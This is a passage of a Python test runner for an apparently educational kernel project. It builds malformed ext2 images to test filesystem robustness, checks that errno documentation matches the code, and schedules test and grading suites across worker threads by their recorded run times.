            mkfs(img, 1, 1024, files)
            table = re.search(r"inode table at (\d+)", e2tool("debugfs", "-R", "stats", img).stdout.decode())
            for cmd in ("sif /big size 0x100000004", "sif /badmap block[0] %s" % (table and table.group(1)),
                        "sif /prog block[4] %s" % (table and table.group(1))):
                r = e2tool("debugfs", "-w", "-R", cmd, img)
                if not table or r.returncode != 0 or b"sif:" in r.stderr:
                    return [(name + "/debugfs_makes_the_image", False, cmd + ": " + r.stderr.decode())]
            os.makedirs(tree)
            shutil.copy(img, os.path.join(tree, "man.img"))
            # big.img: a sound image whose /big (3 blocks) says 4 GiB + 4
            # bytes; e2man unlinks it there, and e2fsck must find it clean
            big, bigfiles = os.path.join(tmp, "big.img"), os.path.join(tmp, "bigfiles")
            os.makedirs(bigfiles)
            for rel in ("big", "kept"):
                with open(os.path.join(bigfiles, rel), "wb") as f:
                    f.write(b"B" * 3000)
            mkfs(big, 1, 1024, bigfiles)
            for rel in ("big", "kept"):
                e2tool("debugfs", "-w", "-R", "sif /%s size 0x100000004" % rel, big)
            shutil.copy(big, os.path.join(tree, "big.img"))
            mkfs(carrier, 4, 1024, tree)
            b, res = boot_with_disk("e2man", carrier, timeout=60)
            res = [(n.replace("e2man/", name + "/"), ok, d) for n, ok, d in res]
            e2tool("debugfs", "-R", "dump /big.img %s" % big, carrier)
            res.append(fsck_result(name + "/e2fsck_clean_after_a_4_gib_file_unlinked", big))
            gone = e2tool("debugfs", "-R", "stat /big", big)
            res.append((name + "/a_4_gib_file_unlinked_is_gone",
                        b"File not found" in gone.stdout + gone.stderr,
                        (gone.stdout + gone.stderr).decode()[-300:]))
            # /kept's inode, written by fchmod: its size as it was
            kept = e2tool("debugfs", "-R", "stat /kept", big).stdout.decode()
            res.append((name + "/a_4_gib_file_written_keeps_its_size",
                        re.search(r"Mode:\s+0600\b", kept) is not None and
                        re.search(r"\bSize: 4294967300\b", kept) is not None, kept[:300]))
            seen = {n.split("/", 1)[1] for n, _, _ in res}
            with open(os.path.join(qemu.ROOT, "user", "tests", "e2man.c")) as f:
                for t in ["%s_%s_%s" % e for e in expected_errors(f.read())]:
                    if t not in seen:
                        res.append(("%s/%s" % (name, t), False, "never reported a result\n" + tail(b.output)))
            if "panic:" in b.output:
                res.append((name + "/kernel_did_not_panic", False, tail(b.output, 25)))
            return res
    return name, run


def errno_reach_suite(root=qemu.ROOT):
    """tools/errnoreach.py, no boot: every errno a call's own code can
    return (a static reach from sys_CALL) is on its page's ERRORS or said
    to be seen by no caller; and every call number has a page, every page
    a call. t_errno checks the pages the other way, by making each error
    happen."""
    def run():
        import errnoreach
        res = []
        for name, fn in (("docs/every_call_number_has_a_page_and_every_page_a_call", errnoreach.numbers_check),
                         ("docs/every_errno_a_call_returns_is_on_its_page", errnoreach.check)):
            try:
                bad = fn(root)
            except Exception as e:      # a tree the parser cannot read fails, it is not skipped
                bad = ["errnoreach: %r" % e]
            res.append((name, not bad, "\n".join(bad)))
        return res
    return "docs/errnoreach", run


def coverage_parser_suite():
    """tools/coverage.py's parsers and report on a made-up ELF and boot (no
    boot: make coverage itself is not part of make test)."""
    def run():
        import coverage
        bad = coverage.self_check()
        return [("coverage/parser_reads_blocks_lines_and_logs", not bad, "\n".join(bad))]
    return "coverage/parser", run


def cover_prof_suite():
    """A gap make coverage found (doc/coverage.md): /proc's listing names
    prof only on a boot with the profiler on (procfs_readdir), as its
    lookup finds it only then (prof/no_proc_prof_without_the_boot_argument)."""
    def run():
        res = []
        for arg, want in (("prof", True), ("", False)):
            b = qemu.run(qemu.kernel_args("%s panic=exit run=/bin/ls /proc" % arg), timeout=60)
            names = set(b.output.split())
            ok = "meminfo" in names and ("prof" in names) == want
            res.append(("t_cover/proc_lists_prof_%s" % ("with_prof" if want else "only_with_prof"),
                        ok, "" if ok else tail(b.output)))
        return res
    return "t_cover/prof", run


def all_suites():
    suites = [host_suite(b) for b in sorted(glob.glob(os.path.join(qemu.BUILD, "hosttest", "*")))
              if os.access(b, os.X_OK)]
    suites += [kernel_suite(), fault_suite(), iso_suite()]
    suites += fuzz_engineer_suites()            # early: the long ones start first
    for src in sorted(glob.glob(os.path.join(qemu.ROOT, "user", "tests", "t_*.c")) +
                      glob.glob(os.path.join(qemu.ROOT, "user", "tests", "usertests.c"))):
        prog = os.path.splitext(os.path.basename(src))[0]
        suites.append(guest_suite(prog, extra=GUEST_ARGS.get(prog, "")))
    suites.append(dos_small_suite())
    suites.append(shake.selfcheck_suite())   # make shake's shifts move memory
    suites += [ext2_write_suite(), ext2_write_suite(4096), ext2_read_suite(1024), ext2_read_suite(2048),
               ext2_read_suite(4096), ext2_full_suite(), ext2_eio_suite()]
    suites.append(ext2_damage_suite())
    suites.append(shell_suite())
    suites += robust_suites()
    suites.append(pid_wrap_suite())
    suites += robust2_suites()
    suites += guestshell_suites()
    suites += authority_suites()
    suites += attach_suites()
    suites += srv_suites()
    suites += perf3_vfs_suites()
    suites += [nosep_suite(), oldcpu_suite()]
    suites.append(lab_harness_suite())
    suites.append(docs_suite())
    suites.append(errno_reach_suite())
    suites.append(man_ext2_suite())
    suites.append(coverage_parser_suite())
    suites.append(cover_prof_suite())
    suites += grading_suites() + [handout_and_handin_suite()]
    suites[:0] = mutant_suites()        # the longest suites start first
    suites[1:1] = buildtests.suites()   # the build and its tools (tools/buildtests.py)
    return suites


# What each suite took in seconds (the idle host of the eleventh round, each
# beside another; the rest less), for the order: the longest start first, so
# that the two workers end together rather than one running a long suite
# alone at the end. A run's own times (build/test-times.json) come first.
SUITE_SECONDS = {
    "grading/submissions": 160, "course/branches": 113, "grading/kernel": 97,
    "grading/autograder": 79, "toolchain/clang": 76, "grading/runner": 80,
    "grading/batch": 54, "mutants/01": 52, "grading/compile": 52, "mutants/02": 44,
    "mutants/05": 41, "mutants/04": 35, "course/branch_zero": 28, "mutants/03": 27,
    "grading/units": 25, "mutants/06": 22, "t_attack9": 20, "kmutants": 20,
    "mutants/07": 18, "mutants/08": 18, "ext2_write": 18, "ext2_write_4k": 18,
    "fuzz/sys": 12, "ext2_damage": 12, "fuzz/elf": 10,
}
# Suites that grade in one work tree (lab 01's, worker 0: a TreeLock): one
# of them waits while another runs, so a worker takes another suite first.
SUITE_TREES = {"grading/submissions": "lab01", "grading/batch": "lab01",
               "grading/compile": "lab01"}
# Suites that mostly wait (a fake QEMU's hangs and time limits: grading/runner
# used 16 s of CPU in 76 s) run in a lane of their own beside the workers,
# instead of holding a core's worker idle.
SUITE_WAITS = {"grading/runner"}
TIMES = os.path.join(qemu.BUILD, "test-times.json")


def suite_order(suites):
    """suites, the longest first (stable: the rest as all_suites has them)."""
    try:
        with open(TIMES) as f:
            took = {k: float(v) for k, v in json.load(f).items()}
    except (OSError, ValueError, AttributeError):
        took = {}
    return sorted(suites, key=lambda s: -took.get(s[0], SUITE_SECONDS.get(s[0], 5)))


def run_suites(suites, workers, report):
    """Run suites on `workers` threads, each taking the first waiting suite
    whose work tree (SUITE_TREES) no running suite holds, else the first,
    and the suites that mostly wait (SUITE_WAITS) on one more thread;
    report(name, t0, results, t1) for each, in the main thread, as they end."""
    waiting, busy, lock = list(suites), set(), threading.Lock()
    done = queue.Queue()

    def worker(lane=False):
        while True:
            with lock:
                mine = [s for s in waiting if (s[0] in SUITE_WAITS) == lane]
                if not mine:
                    return
                pick = next((s for s in mine if SUITE_TREES.get(s[0]) not in busy), mine[0])
                waiting.remove(pick)
                tree = SUITE_TREES.get(pick[0])
                busy.add(tree)
            t0 = time.monotonic()
            try:
                results = pick[1]()
            except BaseException as e:  # a runner bug (SystemExit too) is a failure
                results = [(pick[0], False, "runner error: %r" % e)]
            t1 = time.monotonic()
            with lock:
                busy.discard(tree)
            done.put((pick[0], t0, results, t1))

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(workers)]
    threads.append(threading.Thread(target=worker, args=(True,), daemon=True))
    for t in threads:
        t.start()
    for _ in suites:
        report(*done.get())


def main():
    wanted = sys.argv[1:]
    suites = suite_order([s for s in all_suites() if not wanted or any(w in s[0] for w in wanted)])
    counts = {"passed": 0, "failed": 0, "skipped": 0}
    took = {}
    start = time.monotonic()

    def report(name, t0, results, t1):
        took[name] = round(t1 - t0, 1)
        for name, ok, detail in results:
            if ok is None:          # could not run here: say why, count neither way
                print("SKIP %-60s %6.1fs\n      %s" % (name, t1 - t0, detail))
                counts["skipped"] += 1
                continue
            print("%s %-60s %6.1fs" % ("PASS" if ok else "FAIL", name, t1 - t0))
            if not ok and detail:
                print("      " + detail.replace("\n", "\n      "))
            counts["passed" if ok else "failed"] += 1
        sys.stdout.flush()

    run_suites(suites, max(2, os.cpu_count() or 2), report)
    try:                            # the next run's order
        with open(TIMES) as f:
            took = dict(json.load(f), **took)
    except (OSError, ValueError, TypeError):
        pass
    try:
        with open(TIMES + ".new", "w") as f:
            json.dump(took, f, indent=0, sort_keys=True)
        os.replace(TIMES + ".new", TIMES)
    except OSError:
        pass
    passed, failed, skipped = counts["passed"], counts["failed"], counts["skipped"]
    print("(%d suites in %.1fs%s)" % (len(suites), time.monotonic() - start,
                                      ", %d skipped" % skipped if skipped else ""))
    print("%d passed, %d failed" % (passed, failed))
    return 1 if failed or not passed else 0


if __name__ == "__main__":
    sys.exit(main())
